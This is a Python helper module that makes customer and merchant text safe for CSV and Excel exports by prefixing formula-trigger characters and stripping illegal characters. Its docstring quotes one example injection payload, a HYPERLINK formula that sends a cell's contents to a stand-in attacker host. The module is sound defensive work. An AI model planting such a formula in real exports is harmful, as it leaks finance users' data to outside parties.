"""Text from customers and merchants, made inert for spreadsheets (CSV and Excel injection).

A spreadsheet reads a cell starting with `=`, `+`, `-` or `@` as a formula (and a leading tab or
carriage return can hide one), so `=HYPERLINK("https://evil.example/?d="&A1,"Invoice")` in a
charge description would run when a finance user opens the export. OWASP's advice for CSV: put
a `'` in front of such text, which spreadsheets show as text and do not evaluate.
"""

from __future__ import annotations

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EXCEL_MAX_TEXT = 32_767
"""Excel's limit on the characters of one cell; a longer text makes the file need repair."""


def csv_text(text: str) -> str:
    """`text` for a CSV text cell: prefixed with `'` when a spreadsheet would read it as a
    formula, else unchanged. Only for text: numbers (negative amounts too) are written as is."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def excel_text(text: str) -> str:
    """`text` as an Excel string cell can hold it: the control characters the file format
    forbids become U+FFFD and it is cut at Excel's 32,767-character limit. The caller must still
    type the cell as a string (openpyxl reads a leading `=` as a formula otherwise)."""
    cleaned = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
    return cleaned[:EXCEL_MAX_TEXT]
